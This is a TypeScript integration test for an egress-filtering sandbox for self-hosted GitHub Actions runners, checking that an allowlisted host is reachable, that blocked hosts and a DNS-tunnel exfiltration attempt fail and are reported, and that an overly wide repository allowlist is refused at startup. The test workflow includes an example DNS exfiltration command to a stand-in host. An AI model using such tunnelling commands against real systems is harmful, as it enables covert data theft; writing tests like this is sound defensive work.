import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deliver, endWorld, makeWorld, root, startServer, until, workflowJobPayload, type ServerProcess, type World } from '../server/helpers';
import { startOutsideWorld, type OutsideWorld } from './outside-world';

let world: OutsideWorld;
let w: World;
let state: string;
let server: ServerProcess;

const WORKFLOW = `name: CI
on: push
jobs:
  fetch:
    runs-on: [self-hosted, stockade]
    steps:
      - name: Download
        run: |
          curl -sS -f --max-time 5 --cacert ca.pem https://allowed.test/
          curl -sS --max-time 5 --noproxy '*' http://other.test/ || echo "other.test is blocked"
          getent hosts exfil-$(head -c 20 /dev/urandom | od -An -tx1 | tr -d ' \\n').other.test || echo "tunnel is blocked"
`;

function config(egress: string): string {
  const file = join(w.dir, `config-${Math.random().toString(36).slice(2)}.yml`);
  writeFileSync(file, `egress:\n${egress}`);
  return file;
}

before(async () => {
  world = await startOutsideWorld();
  w = await makeWorld({ '.github/workflows/ci.yml': WORKFLOW, 'ca.pem': readFileSync(world.certFile, 'utf8') });
  state = mkdtempSync(join(tmpdir(), 'stockade-state-'));
  const file = config(`  upstreamDns: ${world.dns}\n  permittedRanges: [${world.subnet}]\n  default: []\n  orgs:\n    octo-org: [allowed.test, "*.example.org"]\n  repos:\n    octo-org/hello: [allowed.test]\n`);
  server = await startServer(w, state, ['--config', file, '--admin-port', '0']);
});

after(async () => {
  await endWorld(w, server, state);
  world?.stop();
});

test('the server gives a repository the egress its config allows; blocked attempts are in the check-run summary and the metrics', async () => {
  await deliver(w, server.url, 'workflow_job', workflowJobPayload({ jobId: 71, name: 'fetch', labels: ['self-hosted', 'stockade'] }));
  const key = 'octo-org/hello/workflow_job/71/1';
  const run = await until('check run completed', () => [...w.fake.checkRuns.values()].find((c) => c.fields.external_id === key && c.fields.status === 'completed'), 90_000);
  const output = run.fields.output as { summary: string; text: string };
  assert.equal(run.fields.conclusion, 'success', JSON.stringify(output));
  assert.match(output.text, new RegExp(`hello from ${world.allowed.replace(/\./g, '\\.')} over https`));
  assert.match(output.text, /other\.test is blocked/);
  assert.match(output.text, /tunnel is blocked/);
  assert.match(output.summary, /:warning: \*\*\d+ blocked network attempts\*\*: DNS A other\.test: not-allowlisted/);
  assert.match(output.summary, /- DNS A exfil-[0-9a-f]{40}\.other\.test: not-allowlisted/);
  const metrics = await (await fetch(`${server.adminUrl}/metrics`)).text();
  const value = (re: RegExp) => Number(re.exec(metrics)?.[1] ?? NaN);
  assert.ok(value(/^stockade_network_blocked_total\{kind="dns"\} (\d+)/m) >= 2, metrics);
  assert.ok(value(/^stockade_network_allowed_total\{kind="connection"\} (\d+)/m) >= 1, metrics);
  assert.ok(value(/^stockade_egress_bytes_out_total (\d+)/m) > 0, metrics);
  // The upstream resolver never saw the blocked names.
  assert.ok(world.events().filter((e) => e.ev === 'dns').every((e) => e.name === 'allowed.test'));
});

test('a repository entry wider than its organisation\'s is refused when the server starts', () => {
  const file = config(`  upstreamDns: ${world.dns}\n  orgs:\n    octo-org: [allowed.test]\n  repos:\n    octo-org/hello: [allowed.test, other.test]\n`);
  const r = spawnSync('node', [join(root, 'dist/cli.js'), 'serve', '--app-id', '1', '--private-key-file', w.keyFile, '--webhook-secret-file', w.secretFile, '--config', file, '--state-dir', state], { encoding: 'utf8', timeout: 20_000 });
  assert.notEqual(r.status, 0);
  assert.match(r.stderr, /egress\.repos\.octo-org\/hello: egress to other\.test is not allowed here: the administrator allows allowed\.test/);
});
